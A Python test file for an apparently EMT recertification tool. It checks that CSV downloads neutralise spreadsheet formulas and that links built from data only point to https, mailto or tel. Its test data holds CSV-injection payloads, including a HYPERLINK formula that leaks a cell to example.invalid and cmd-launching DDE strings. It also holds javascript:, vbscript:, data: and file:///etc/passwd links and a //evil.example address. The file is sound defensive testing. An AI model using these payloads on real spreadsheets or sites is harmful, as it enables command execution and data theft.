"""Issue 20 without a browser: every CSV the project writes is safe to open in a spreadsheet, and every
link on every page of the built site goes where a link from data may go.

The browser half (the service worker's policy and checked caches, a page served with no headers, the
checker that cannot be stuck) is in tests/test_never_stuck.py and tests/test_offline.py.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
from html.parser import HTMLParser
from pathlib import Path

import markdown
import pytest
from conftest import ROOT, TODAY, build_site, transcript
from hypothesis import given
from hypothesis import strategies as st

from recert_core import browser, check
from recert_core.check import resolve
from recert_core.links import contact_links, safe_href
from recert_core.roster import PersonResult, check_people, summary_csv_header, summary_csv_line
from recert_core.rules import load_rules, shipped_folder
from recert_core.spreadsheet import FORMULA_START, inert
from recert_core.transcript import read_people
from site_plugins.links import LinkPolicyExtension

# What a spreadsheet runs when the file is opened: each of these must come back as text.
FORMULAS = [
    '=HYPERLINK("http://example.invalid/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # a full-width equals sign
    "-",
    "- CPR refresher, part 2",
]


def cells_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


def runs_in_a_spreadsheet(cell: str) -> bool:
    """What spreadsheets take as a formula: a formula start that is not a plain number."""
    return cell[:1] in FORMULA_START and inert(cell) != cell


@given(st.text(max_size=30))
def test_a_cell_is_text_unless_it_could_not_run(cell):
    written = inert(cell)
    if cell[:1] in FORMULA_START and not re.fullmatch(r"[+-]?(\d+(\.\d*)?|\.\d+)", cell):
        assert written == "'" + cell
    else:
        assert written == cell


@pytest.mark.parametrize("number", ["-1.5", "+2", "-0.25", "12", ".5"])
def test_a_plain_number_is_left_as_it_is(number):
    assert inert(number) == number


def test_the_reports_csv_writes_every_formula_as_text():
    rows = [f'2017-01-{i + 10},"{f.replace(chr(34), chr(34) * 2)}",1,T2-{i},national,' for i, f in enumerate(FORMULAS)]
    report = check(transcript(*rows, header='date,"=title",hours,approval,component,delivery'), "emt", 2018)
    written = cells_of(report.to_csv())
    assert written[0][1] == "'=title"
    titles = [row[1] for row in written[1:]]
    # Each title as the report read it (the reader may fold a tab or carriage return in a cell), as text.
    assert titles == [inert(row.cells[1]) for row in report.rows]
    assert [t for t in titles if not t.startswith(("' ", "'\t", "'\r", " "))] == [
        "'" + f for f in FORMULAS if f[:1] not in "\t\r"
    ]
    assert not [cell for row in written for cell in row if runs_in_a_spreadsheet(cell)]


def test_a_rosters_summary_writes_a_persons_name_as_text():
    header = "Name,Completion Date,Course Title,Hours,Approval Number,Component"
    lines = [header] + [f'"{name}",05/01/2025,Airway,1,MA-T2-2025-1,National' for name in ["=1+1", "-Smith", "Ada"]]
    level, rule_set = resolve("emt", 2026)
    people = read_people(io.BytesIO(("\r\n".join(lines) + "\r\n").encode()))
    results = [PersonResult.of(person, report) for person, report in check_people(people, level, rule_set)]
    written = cells_of(summary_csv_header() + "".join(summary_csv_line(r) for r in results))
    assert sorted(row[0] for row in written[1:]) == ["'-Smith", "'=1+1", "Ada"]
    assert not [cell for row in written for cell in row if runs_in_a_spreadsheet(cell)]


def test_the_editors_download_writes_every_formula_as_text_and_the_check_sees_the_cells_as_typed():
    course = {"date": "2017-01-10", "hours": "1", "approval": "T2-1", "component": "National"}
    rows = [{**course, "title": f} for f in FORMULAS]
    rows.append({"date": "2017-01-11", "title": "Negative", "hours": "-1.5", "approval": "T2-2"})
    answer = json.loads(browser.run_editor(json.dumps(rows), "emt", "2018", "2018-01-01"))
    assert answer["ok"]
    # The check reads the cells as typed (whitespace folded, as the editor writes them).
    typed = [" ".join(f.split()) for f in FORMULAS]
    assert [row["title"] for row in answer["report"]["rows"]][: len(FORMULAS)] == typed
    written = cells_of(browser.editor_csv().decode())
    assert [row[1] for row in written[1 : len(FORMULAS) + 1]] == ["'" + t for t in typed]
    assert written[-1][2] == "-1.5"  # a number stays a number
    assert not [cell for row in written for cell in row if runs_in_a_spreadsheet(cell)]


def test_every_csv_the_package_writes_goes_through_the_one_rule():
    """A new CSV download must use recert_core.spreadsheet: no other module builds a csv.writer, except
    for the rows typed in the editor or read from certificates as handed to the check (never to the user)."""
    writers = {}
    for path in (ROOT / "recert_core").rglob("*.py"):
        found = len(re.findall(r"csv\.writer\(", path.read_text()))
        if found:
            writers[path.relative_to(ROOT).as_posix()] = found
    checked_as_typed = ["recert_core/browser.py", "recert_core/certificates/__init__.py"]
    assert writers == {"recert_core/spreadsheet.py": 1, **dict.fromkeys(checked_as_typed, 1)}
    for path in checked_as_typed:
        assert "CsvWriter(out) if inert else csv.writer(" in (ROOT / path).read_text(), path


# --- links ------------------------------------------------------------------------------------------

# Markdown a regional office's fork could put in any text of the rules data, each a link or image that
# must not go where it says.
HOSTILE_MARKDOWN = (
    " [click1](javascript:alert(1)) ![img2](javascript:alert(2)) [click3](java&#115;cript:alert(3))"
    " [click4](data:text/html,alert) [click5](vbscript:alert(5)) [click6](JaVaScRiPt:alert(6))"
    " <javascript:alert(8)> [plain9](http://example.org/nine)"
)
ALLOWED = {"https", "mailto", "tel"}


class Addresses(HTMLParser):
    """Every address attribute of a page, as the browser reads it (character references decoded)."""

    NAMES = frozenset({"href", "src", "action", "formaction", "poster", "background", "xlink:href", "data"})

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            if name in self.NAMES and value is not None:
                self.found.append((tag, name, value))
            if name == "srcset" and value:
                self.found += [(tag, name, part.split()[0]) for part in value.split(",") if part.strip()]


def scheme(address: str) -> str | None:
    """The scheme a browser reads in an address (tabs and newlines dropped, ends trimmed), if any."""
    url = re.sub(r"[\t\n\r]", "", address).strip("".join(chr(c) for c in range(0x21)))
    found = re.match(r"([a-zA-Z][a-zA-Z0-9+.-]*):", url)
    return found[1].lower() if found else ("//" if re.match(r"[/\\]{2}", url) else None)


def disallowed_addresses(site: Path) -> dict[str, list[str]]:
    """Per page, each address that is neither inside the site nor https:, mailto: or tel:."""
    wrong = {}
    for page in sorted(site.rglob("*.html")):
        parser = Addresses()
        parser.feed(page.read_text(encoding="utf-8"))
        bad = [f"{tag} {name}={value}" for tag, name, value in parser.found if scheme(value) not in {None, *ALLOWED}]
        if bad:
            wrong[page.relative_to(site).as_posix()] = bad
    return wrong


@pytest.mark.parametrize(
    ("address", "web", "expected"),
    [
        ("https://www.nremt.org", True, "https://www.nremt.org"),
        ("http://www.mass.gov/dph/oems", True, "https://www.mass.gov/dph/oems"),
        ("massemt.org", True, "https://massemt.org"),
        ("mailto:support@nremt.org", False, "mailto:support@nremt.org"),
        ("tel:+1-614-888-4484", False, "tel:+1-614-888-4484"),
        ("../sources/#neems-2016", False, "../sources/#neems-2016"),
        ("#fees", False, "#fees"),
        ("javascript:alert(1)", False, None),
        ("javascript:alert(1)", True, None),
        (" JaVa\tScRiPt:alert(1)", False, None),
        ("\x01javascript:alert(1)", False, None),
        ("data:text/html,<script>", False, None),
        ("vbscript:msgbox", False, None),
        ("//evil.example", False, None),
        ("\\\\evil.example", False, None),
        ("https://javascript:alert(1)", True, None),
        ("file:///etc/passwd", False, None),
        ("not a web site", True, None),
    ],
)
def test_a_link_from_data_goes_to_https_mailto_or_tel_only(address, web, expected):
    assert safe_href(address, web_address=web) == expected


@given(st.text(max_size=40))
def test_no_address_becomes_a_link_of_another_scheme(address):
    for web in (False, True):
        href = safe_href(address, web_address=web)
        assert href is None or scheme(href) in {None, *ALLOWED}
        assert href is None or not web or scheme(href) in ALLOWED


def test_a_contacts_links_are_mailto_tel_and_https():
    contact = {"name": "OEMS", "email": "a@b.org", "phone": "617-973-0935", "website": "http://www.mass.gov/dph/oems"}
    assert contact_links(contact) == [
        {"field": "email", "text": "a@b.org", "href": "mailto:a@b.org"},
        {"field": "phone", "text": "617-973-0935", "href": "tel:+1-617-973-0935"},
        {"field": "website", "text": "http://www.mass.gov/dph/oems", "href": "https://www.mass.gov/dph/oems"},
    ]
    assert contact_links({"name": "x", "website": "javascript:alert(1)"}) == []


def test_the_sites_markdown_keeps_a_link_only_where_it_may_go():
    text = (
        "[a **b**](javascript:alert(1)) ![i](javascript:y) [c](java&#115;cript:x) [d](&amp;#106;avascript:x)"
        " [e][r] [f](../sources/#x) [g](mailto:a@b.org?subject=x&body=y) <https://example.org/>\n\n[r]: vbscript:z"
    )
    parser = Addresses()
    parser.feed(markdown.markdown(text, extensions=[LinkPolicyExtension()]))
    assert [value for _, _, value in parser.found] == [
        "../sources/#x",
        "mailto:a@b.org?subject=x&body=y",
        "https://example.org/",
    ]


def test_every_address_on_every_page_of_the_built_site_is_allowed(built_site):
    assert disallowed_addresses(built_site) == {}


def hostile_rules(folder: Path) -> Path:
    """A copy of the shipped rules data with Markdown links appended to every text value that is a
    phrase (it has a space): names, titles, details, labels, descriptions, sources."""
    copy = folder / "rules"
    shutil.copytree(shipped_folder(), copy)
    for path in copy.glob("*.toml"):
        text = path.read_text()
        phrase = r'(=\s*)"((?:[^"\\\n]|\\.)* (?:[^"\\\n]|\\.)*)"'  # key = "a phrase", alone or in a { table }
        text = re.sub(phrase, lambda m: f'{m[1]}"{m[2]}{HOSTILE_MARKDOWN}"', text)
        path.write_text(text)
    load_rules(copy)  # still valid data: the values are only text
    return copy


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory) -> Path:
    tmp = tmp_path_factory.mktemp("hostile-site")
    done = build_site(tmp, f"rules: {json.dumps(str(hostile_rules(tmp)))}\ntoday: '{TODAY}'")
    assert done.returncode == 0, done.stderr
    return tmp / "site"


def test_markdown_in_the_rules_data_makes_no_link_of_another_scheme_on_any_page(hostile_site):
    pages = sorted(hostile_site.rglob("*.html"))
    shown = [p for p in pages if "click1" in p.read_text(encoding="utf-8")]
    assert len(shown) >= 15, "the hostile values reach the pages"  # the test tests something
    assert disallowed_addresses(hostile_site) == {}
    upgraded = [p for p in shown if 'href="https://example.org/nine"' in p.read_text(encoding="utf-8")]
    assert upgraded, "http: from data is sent as https:"


def test_the_renewal_plans_contacts_carry_their_links():
    plan = json.loads(browser.run_plan("emt", "2026", "current", "2026", "yes", "3", "", "2026-01-05"))
    contacts = [c for step in plan["plan"]["steps"] for c in step["contacts"]]
    assert contacts and all(c["links"] for c in contacts)
    assert {scheme(link["href"]) for c in contacts for link in c["links"]} <= ALLOWED
